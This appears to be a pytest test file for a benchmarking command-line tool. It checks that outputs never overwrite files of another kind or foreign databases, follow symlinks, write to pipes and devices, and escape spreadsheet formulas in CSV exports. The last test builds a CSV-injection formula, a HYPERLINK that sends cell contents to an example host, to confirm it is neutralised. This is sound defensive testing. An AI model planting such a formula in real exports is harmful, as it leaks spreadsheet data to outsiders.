"""A command replaces files of the kind that it writes, and no others."""

from __future__ import annotations

import csv
import io
import os
import re
import shutil
import sqlite3
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing
from pathlib import Path

import pytest
from support.pages import add_run

from orthobench.errors import UsageError
from orthobench.store import MetricRow, open_store
from orthobench.system.kinds import KINDS, refuse_file, refuse_other_kinds

OWN = {
    "HTML": b"<!DOCTYPE html><title>t</title>",
    "XML": b"<?xml version='1.0'?><testsuites/>",
    "SVG": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
    "PNG": b"\x89PNG\r\n\x1a\n\0\0",
    "PDF": b"%PDF-1.7\n\0",
    "Parquet": b"PAR1\0\0",
    "JSON": b'{"a": 1}',
    "CSV": b"a,b\n1,2\n",
    "Markdown": b"# t\n",
    "LaTeX": b"\\begin{tabular}\n",
}


@pytest.mark.parametrize("kind", KINDS)
def test_kind_replaces_its_own_files_and_no_others(kind, tmp_path):
    refuse_other_kinds(tmp_path / "missing", kind)
    (tmp_path / "empty").touch()
    refuse_other_kinds(tmp_path / "empty", kind)
    for other, content in OWN.items():
        file = tmp_path / f"file{KINDS[other].suffix}"
        file.write_bytes(content)
        if other == kind:
            refuse_other_kinds(file, kind)
        else:
            with pytest.raises(
                UsageError, match=f"refusing to overwrite .*: it is not a file of type {kind}; name another"
            ):
                refuse_other_kinds(file, kind)


@pytest.mark.parametrize(("name", "kind", "right"), [("a.pdf", "HTML", "a.html"), ("b.CSV", "JSON", "b.json")])
def test_new_file_that_is_named_as_another_kind_is_refused(tmp_path, name, kind, right):
    with pytest.raises(UsageError, match=rf"would be {kind}: name it .*/{right}$"):
        refuse_other_kinds(tmp_path / name, kind)
    for other in ("a.txt", "a", right):
        refuse_other_kinds(tmp_path / other, kind)


def test_svg_with_an_xml_declaration_is_recognised(tmp_path):
    file = tmp_path / "figure.svg"
    file.write_bytes(b"<?xml version='1.0'?>\n<svg xmlns='http://www.w3.org/2000/svg'/>")
    refuse_other_kinds(file, "SVG")
    with pytest.raises(UsageError, match="not a file of type XML"):
        refuse_other_kinds(file, "XML")


def test_file_in_place_of_a_folder_is_refused(tmp_path):
    (tmp_path / "file").touch()
    with pytest.raises(UsageError, match="is a file and is left as it is: name a folder"):
        refuse_file(tmp_path / "file")
    refuse_file(tmp_path)
    refuse_file(tmp_path / "missing")


@pytest.mark.parametrize("name", ["figures.pdf", "figures.SVG", "figures.tex", "site.html", "runs.csv", "runs.db"])
def test_new_folder_with_the_suffix_of_a_file_is_refused(tmp_path, name):
    with pytest.raises(UsageError, match=rf"{name} is named as a file, but would be a folder: name a folder, such as"):
        refuse_file(tmp_path / name)
    (tmp_path / name).mkdir()
    refuse_file(tmp_path / name)


BASELINE = '[[run]]\ntask = "adding"\nmodel = "rnn"\nsettings = { epochs = 1 }\n'


@pytest.fixture(scope="module")
def filled(tmp_path_factory) -> Path:
    """A database with a run."""
    database = tmp_path_factory.mktemp("filled") / "results.db"
    with open_store(str(database), create=True) as store:
        add_run(store)
    return database


COMMANDS = [
    ("report", "--html", "-o"),
    ("report", "--format", "csv", "-o"),
    ("report", "--format", "json", "-o"),
    ("report", "--format", "markdown", "-o"),
    ("report", "--format", "latex", "-o"),
    ("report", "--format", "reproduction", "-o"),
    ("report", "--format", "png", "-o"),
    ("study", "orthogonality", "--preset", "quick", "-o"),
    ("check", "base.toml", "--junit"),
    ("check", "base.toml", "--markdown"),
    ("db", "export"),
    ("db", "backup"),
]


@pytest.mark.parametrize("command", COMMANDS, ids=[" ".join(command) for command in COMMANDS])
def test_no_command_replaces_a_database(orthobench, filled, tmp_path, command):
    shutil.copy(filled, tmp_path / "results.db")
    (tmp_path / "base.toml").write_text(BASELINE)
    before = (tmp_path / "results.db").read_bytes()
    refused = orthobench(*command, "results.db")
    assert refused.code == 2, refused.out
    assert refused.err.startswith("error: ")
    assert refused.err.count("\n") == 1
    assert (tmp_path / "results.db").read_bytes() == before


@pytest.mark.parametrize(
    "command",
    [
        ("report", "--format", "pdf", "-o", "new.pdf"),
        ("db", "export", "new.csv"),
        ("publish", "new.html", "results.db"),
        ("run", "adding", "rnn", "--weights-at", "new.safetensors", "--db", "new.db"),
    ],
)
def test_no_command_creates_a_folder_that_is_named_as_a_file(orthobench, filled, tmp_path, command):
    shutil.copy(filled, tmp_path / "results.db")
    refused = orthobench(*command)
    assert (refused.code, refused.err.count("\n")) == (2, 1)
    assert re.search(r"is named as a file, but would be a folder: name a folder, such as \S*new\n$", refused.err)
    assert not list(tmp_path.glob("new*"))


def test_report_is_replaced_by_the_next_one(orthobench, filled, tmp_path):
    """Every file is another one after a second run has been added, except tables without rows."""
    shutil.copy(filled, tmp_path / "results.db")
    contents = []
    for _ in range(2):
        assert orthobench("report", "--html", "-o", "page.html").code == 0
        assert orthobench("report", "--format", "csv", "-o", "table.csv").code == 0
        assert orthobench("db", "export", "out").code == 0
        files = [tmp_path / "page.html", tmp_path / "table.csv", *sorted((tmp_path / "out").iterdir())]
        contents.append({file.name: file.read_bytes() for file in files})
        with open_store(str(tmp_path / "results.db")) as store:
            add_run(store, seed=len(contents))
    before, after = contents
    assert before.keys() == after.keys()
    assert [name for name in before if before[name] == after[name]] == ["segments.csv", "weights.csv"]


LINKED = [
    (("report", "--html", "-o"), "link.html"),
    (("report", "--format", "csv", "-o"), "link.csv"),
    (("check", "gate.toml", "--junit"), "link.xml"),
    (("check", "gate.toml", "--markdown"), "link.md"),
]
GATE = """[[run]]
task = "adding"
model = "rnn"
settings = { sequence_length = 5, train_size = 10, test_size = 10, epochs = 1, batch_size = 10, hidden_size = 2 }
"""


@pytest.mark.parametrize(("command", "name"), LINKED, ids=[name for _, name in LINKED])
def test_output_that_is_a_link_is_written_where_it_leads(orthobench, filled, tmp_path, command, name):
    shutil.copy(filled, tmp_path / "results.db")
    (tmp_path / "gate.toml").write_text(GATE)
    real = tmp_path / "out" / name.replace("link", "real")
    real.parent.mkdir()
    (tmp_path / "between").symlink_to(f"out/{real.name}")
    (tmp_path / name).symlink_to("between")
    for content in (None, OWN[next(kind for kind in KINDS if KINDS[kind].suffix == real.suffix)]):
        if content is not None:  # the first time the link leads nowhere yet
            real.write_bytes(content)
            real.chmod(0o640)
        orthobench(*command, name)
        assert (tmp_path / name).readlink() == Path("between")
        assert len(real.read_bytes()) > 50
        assert [file.name for file in real.parent.iterdir()] == [real.name]
    assert real.stat().st_mode & 0o777 == 0o640


def test_tables_of_an_export_are_written_where_links_lead(orthobench, filled, tmp_path):
    (tmp_path / "real.csv").touch()
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "runs.csv").symlink_to(tmp_path / "real.csv")
    assert orthobench("db", "export", "out", "--db", str(filled)).code == 0
    assert (tmp_path / "out" / "runs.csv").is_symlink()
    assert (tmp_path / "real.csv").read_text().startswith("key,")


@pytest.mark.parametrize("name", ["/dev/stdout", "/dev/fd/1", "/proc/self/fd/1", "link.csv"])
@pytest.mark.parametrize("to_pipe", [False, True])
def test_open_output_of_the_command_is_written_into(filled, tmp_path, name, to_pipe):
    (tmp_path / "link.csv").symlink_to("/dev/stdout")
    words = [sys.executable, "-m", "orthobench", "report", "--format", "csv", "--db", str(filled), "-o", name]
    got = tmp_path / "got.csv"
    with got.open("w") as stream:
        out = subprocess.PIPE if to_pipe else stream
        done = subprocess.run(words, cwd=tmp_path, stdout=out, stderr=subprocess.PIPE, text=True, check=True)
    rows = list(csv.DictReader(io.StringIO(done.stdout if to_pipe else got.read_text())))
    assert [row["task"] for row in rows] == ["adding"] * len(rows) != []
    assert sorted(file.name for file in tmp_path.iterdir()) == ["got.csv", "link.csv"]


def test_device_and_named_pipe_are_written_into(orthobench, filled, tmp_path):
    assert orthobench("report", "--format", "csv", "--db", str(filled), "-o", "/dev/null").code == 0
    assert Path("/dev/null").is_char_device()
    os.mkfifo(tmp_path / "pipe")
    with ThreadPoolExecutor() as pool:
        reading = pool.submit((tmp_path / "pipe").read_text)
        assert orthobench("report", "--format", "csv", "--db", str(filled), "-o", str(tmp_path / "pipe")).code == 0
        assert "adding" in reading.result()


@pytest.mark.parametrize("command", [("run", "adding", "rnn"), ("sweep", "adding", "--models", "rnn"), ("db", "merge")])
def test_database_of_another_program_is_refused_and_unchanged(orthobench, filled, tmp_path, command, tiny_options):
    other = tmp_path / "other.db"
    with closing(sqlite3.connect(other)) as connection, connection:
        connection.execute("CREATE TABLE bookmarks (url TEXT)")
    before = other.read_bytes()
    shutil.copy(filled, tmp_path / "source.db")
    options = ["source.db"] if command == ("db", "merge") else tiny_options
    refused = orthobench(*command, *options, "--db", "other.db")
    assert refused.code == 2
    assert "other.db is a database of another program (it has a table bookmarks) and is left as it is" in refused.err
    assert other.read_bytes() == before
    assert not list(tmp_path.glob("other.db-*"))


def test_no_cell_of_a_table_is_a_spreadsheet_formula(tmp_path, orthobench):
    formula = '=HYPERLINK("http://example.org/?x="&A1,"click")'
    with open_store(str(tmp_path / "r.db"), create=True) as store:
        key = add_run(store, "lstm", message=formula)
        store.tag([key], ["+tag"])
        run = store.find(key)
        store.log(run.id, [MetricRow("test", "@metric", 1, 4, -0.5)], [], {})
    assert orthobench("db", "export", "out", "--db", "r.db", "--format", "csv", "--vectors").code == 0
    assert orthobench("report", "--db", "r.db", "--format", "csv", "-o", "report.csv").code == 0
    files = [*(tmp_path / "out").iterdir(), tmp_path / "report.csv"]
    cells = [cell for file in files for row in csv.reader(file.read_text("utf-8").splitlines()) for cell in row]
    assert f"'{formula}" in cells
    assert {"'+tag", "'@metric", "-0.5"} <= set(cells)
    assert not [cell for cell in cells if cell[:1] in "=+@\t\r" and cell]
